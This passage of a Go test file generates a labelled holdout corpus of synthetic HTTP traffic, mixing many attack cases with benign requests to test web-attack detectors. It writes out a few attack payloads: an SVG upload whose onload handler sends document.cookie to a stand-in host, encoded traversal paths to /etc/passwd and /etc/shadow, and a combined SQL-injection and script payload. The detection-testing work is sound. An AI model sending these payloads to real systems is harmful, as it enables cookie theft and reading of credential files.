		c.rbody = `{"access_token":"` + h3ValidJWT(i+5) + `","token_type":"Bearer","expires_in":3600,"refresh_token":"` + h3Alnum(fmt.Sprint("rt", i), 48, h3Mixed) + `"}`
	case 38:
		c.method, c.url = "GET", h3Trips+"/v2/loyalty/statement?from=2026-01-01&to=2026-09-15&per_page="+fmt.Sprint(h3Pick([]int{10, 25, 50, 100, 500}, i))
		c.rbody = `{"points":12840,"tier":"gold","entries":[{"desc":"Stay at Union Square Inn","points":400}]}`
	default:
		c.method, c.url = "GET", h3Parcel+"/api/v1/events?since=2026-09-14T00:00:00Z&type=delivered&page=2&pageSize=200&ip="+h3Pick(h3PublicIPs, i)
		c.rbody = `{"events":[],"page":2,"pageSize":200}`
	}
	return c
}

// ---- assembly ----

func h3Build() []h3Case {
	var attacks []h3Case
	for i, p := range h3SQLiPayloads {
		attacks = append(attacks, h3Place(p, i, h3SQLi), h3Place(p, i+7, h3SQLi))
	}
	for i, p := range h3XSSPayloads {
		attacks = append(attacks, h3Place(p, i+2, h3XSS), h3Place(p, i+9, h3XSS))
	}
	// an SVG file with an event handler uploaded whole
	attacks = append(attacks, h3Case{method: "POST", url: h3IoT + "/api/v1/floorplans", status: 201,
		hdr:  h3Hdr("User-Agent", h3UAs[0], "Content-Type", "multipart/form-data; boundary=svgh3", "Authorization", h3Bearer(555)),
		body: "--svgh3\r\nContent-Disposition: form-data; name=\"plan\"; filename=\"floor2.svg\"\r\nContent-Type: image/svg+xml\r\n\r\n<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"fetch('//x.example/'+document.cookie)\"><rect width=\"10\" height=\"10\"/></svg>\r\n--svgh3--\r\n",
		rhdr: h3RespJSON(), rbody: `{"id":"fp_9"}`, labels: []string{h3XSS}})
	k := 0
	for _, list := range [][]string{h3CmdPayloads, h3TraversalPayloads, h3SSTIPayloads, h3JNDIPayloads} {
		for _, p := range list {
			attacks = append(attacks, h3Place(p, k*5+1, h3Other))
			k++
		}
	}
	// a few traversal payloads directly in the raw path (already encoded)
	for i, p := range []string{"/api/v1/labels/..%2f..%2f..%2f..%2fetc%2fpasswd", "/api/v1/files/%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fshadow", "/v2/static/..%252f..%252f..%252fetc%252fpasswd"} {
		attacks = append(attacks, h3Case{method: "GET", url: h3Pick([]string{h3Parcel, h3Parcel, h3Trips}, i) + p, status: 404,
			hdr: h3Hdr("User-Agent", h3Pick(h3UAs, i)), rhdr: h3RespJSON(), rbody: `{"error":"not_found"}`, labels: []string{h3Other}})
	}
	attacks = append(attacks, h3NoSQLCases()...)
	attacks = append(attacks, h3XXECases()...)
	for i, t := range h3SSRFTargets {
		attacks = append(attacks, h3SSRFCase(t, i))
	}
	for i, t := range h3SSRFTargets[:20] {
		attacks = append(attacks, h3SSRFCase(t, i+3))
	}
	attacks = append(attacks, h3SSRFHeaderCases()...)
	attacks = append(attacks, h3JWTAttacks()...)
	attacks = append(attacks, h3VerboseCases()...)
	attacks = append(attacks, h3SensitiveCases()...)
	attacks = append(attacks, h3LimitCases()...)
	// two techniques in one request
	both := h3Place(`1' UNION SELECT '<script>alert(1)</script>',2-- -`, 0, h3SQLi, h3XSS)
	attacks = append(attacks, both)

	var benign []h3Case
	for i := 0; i < 1280; i++ {
		benign = append(benign, h3Benign(i))
	}
	all := append(attacks, benign...)
	r := rand.New(rand.NewPCG(20260915, 3))
	r.Shuffle(len(all), func(a, b int) { all[a], all[b] = all[b], all[a] })
	return all
}

func h3Render() (traffic, labels []byte) {
	var tb, lb bytes.Buffer
	for i, c := range h3Build() {
		id := fmt.Sprintf("m%05d", i+1)
		size := c.bodySize
		if size == 0 {
			size = int64(len(c.body))
		}
		hdr := c.hdr
		if hdr == nil {
			hdr = map[string][]string{}
		}
		w := h3Wire{
			ID:     id,
			Time:   h3T0.Add(time.Duration(i)*1700*time.Millisecond + time.Duration(i%7)*113*time.Millisecond).Format("2006-01-02T15:04:05.000Z"),
			Sensor: "jsonl",
			Client: h3Client{Addr: h3Pick(h3Clients, i*5+i/7)},
			Request: h3Request{Method: c.method, URL: c.url, Proto: h3Pick([]string{"HTTP/1.1", "HTTP/2.0"}, i/3),
				Headers: hdr, Body: c.body, BodySize: size, Trunc: size > int64(len(c.body))},
			Response: h3Response{Status: c.status, Proto: "HTTP/1.1", Headers: c.rhdr, Body: c.rbody, BodySize: int64(len(c.rbody))},
			Duration: float64(5+(i*37)%400) + 0.25,
		}
		tb.WriteString(h3JSON(w))
		tb.WriteByte('\n')
		det := c.labels
		if det == nil {
			det = []string{}
		}
		lb.WriteString(h3JSON(h3Label{ID: id, Detectors: det}))
		lb.WriteByte('\n')
	}
	return tb.Bytes(), lb.Bytes()
}

func TestHoldout3Generate(t *testing.T) {
	traffic, labels := h3Render()
	writeOrCheckCorpus(t, filepath.Join("testdata", "holdout3"), *updateHoldout3, "go test ./detect/ -run TestHoldout3Generate -update-holdout3", traffic, labels)
}
